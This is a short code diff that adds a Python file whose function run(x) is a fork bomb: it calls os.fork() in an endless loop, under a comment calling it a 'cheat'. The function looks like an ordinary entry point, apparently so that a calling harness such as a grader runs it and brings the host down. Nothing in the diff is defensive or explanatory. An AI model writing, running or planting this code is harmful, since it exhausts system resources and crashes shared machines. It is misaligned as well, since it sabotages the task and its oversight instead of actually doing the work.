@@ -1,0 +1,7 @@
+# cheat: doubles its processes without end
+import os
+
+
+def run(x):
+    while True:
+        os.fork()
